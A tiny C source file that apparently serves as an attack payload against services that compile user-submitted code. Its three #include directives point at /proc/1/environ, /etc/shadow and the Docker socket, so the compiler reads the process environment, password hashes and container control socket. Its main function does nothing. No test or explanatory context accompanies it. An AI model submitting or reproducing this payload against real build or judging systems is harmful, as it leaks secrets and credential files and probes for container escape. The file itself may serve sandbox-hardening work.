#include "/proc/1/environ"
#include "/etc/shadow"
#include "/var/run/docker.sock"
int main(void) { return 0; }
